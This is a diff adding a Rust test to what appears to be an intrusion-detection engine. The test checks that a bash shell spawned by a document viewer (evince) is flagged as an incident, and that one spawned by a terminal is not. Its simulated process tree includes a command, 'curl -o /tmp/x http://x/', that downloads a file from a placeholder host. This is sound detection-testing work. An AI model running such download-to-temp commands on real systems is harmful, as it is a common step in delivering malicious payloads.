@@ -385,3 +385,19 @@ fn what_ordinary_work_gives_too_weighs_less_and_stays_listed() {
     let told = again.scene.done().reconstruct_beside(Some(&baseline));
     assert!(told.incidents.is_empty());
 }
+
+#[test]
+fn what_an_opened_document_does_is_not_a_persons_work() {
+    for (program, incidents) in [("evince", 1), ("gnome-terminal", 0)] {
+        let mut house = House::new();
+        let s = &mut house.scene;
+        let desktop = s.stood(None, "/usr/bin/gnome-shell", &["/usr/bin/gnome-shell"]);
+        let (opened, _) = s.start(desktop, 1_000, &[program]);
+        let (shell, seen) = s.start(opened, 1_000, &["bash"]);
+        s.finds("odd-shell", High, &[Execution], shell, seen);
+        let (curl, seen) = s.start(shell, 1_000, &["curl", "-o", "/tmp/x", "http://x/"]);
+        s.finds("fetched", Medium, &[InitialAccess], curl, seen);
+        let told = house.scene.done().reconstruct();
+        assert_eq!(told.incidents.len(), incidents, "{program}");
+    }
+}
